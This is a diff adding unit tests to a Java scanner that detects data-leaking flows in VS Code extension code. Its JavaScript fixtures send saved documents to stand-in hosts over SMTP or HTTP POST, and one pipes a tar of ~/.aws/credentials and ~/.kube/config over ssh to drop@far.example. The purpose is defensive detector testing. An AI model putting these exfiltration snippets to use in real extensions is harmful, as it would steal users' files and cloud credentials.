@@ -2,6 +2,7 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.vsxray.scanner.model.Feature;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -285,5 +286,54 @@ class ListsAndFilesTest {
                 """);
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
+
+    @Test
+    void eachLineIsSentOnceTheFarEndHasAnsweredAsOften() {
+        Analysis analysis = Analysis.ofActivate("""
+                vscode.workspace.onDidSaveTextDocument(document => {
+                  const lines = ['EHLO localhost', 'MAIL FROM:<a@post.example>', 'RCPT TO:<b@post.example>', 'DATA', document.getText(), 'QUIT'];
+                  const socket = require('net').connect(25, 'post.example');
+                  socket.on('data', () => { const line = lines.shift(); if (line) socket.write(line); });
+                });
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
+    }
+
+    @Test
+    void whatIsPutInAListIsSeenByATimerThatRanBefore() {
+        Analysis analysis = Analysis.ofActivate("""
+                const waiting = [];
+                const send = list => { for (const text of list) fetch('https://lists.example/t', { method: 'POST', body: text }); };
+                setInterval(() => { if (waiting.length > 0) send(waiting); }, 1000);
+                vscode.workspace.onDidSaveTextDocument(document => waiting.push(document.getText()));
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
+    }
+
+    @Test
+    void aProgramIsGivenEachPathOfAFilteredList() {
+        Analysis analysis = Analysis.ofActivate("""
+                const home = os.homedir(), kept = ['.aws/credentials', '.kube/config'].filter(name => fs.existsSync(home + '/' + name));
+                const tar = cp.spawn('tar', ['-cz', '-C', home, ...kept]), far = cp.spawn('ssh', ['drop@far.example', 'cat > in.tgz']);
+                tar.stdout.pipe(far.stdin);
+                """.replace("cp.", "require('child_process')."));
+
+        assertThat(analysis.flowNames()).contains("cloud-credentials -> network-send");
+    }
+
+    @Test
+    void aLongListOfRecordsIsDataAndNoPartOfTheProgram() {
+        Analysis analysis = Analysis.ofActivate("""
+                const all = [];
+                for (let i = 0; i < 60; i++) all.push({ name: 'n' + i, host: [os.hostname()] });
+                fetch('https://lists.example/t', { method: 'POST', body: { all } });
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-send"))
+                .isNotEmpty()
+                .noneMatch(Feature.Flow::assumed);
     }
 }
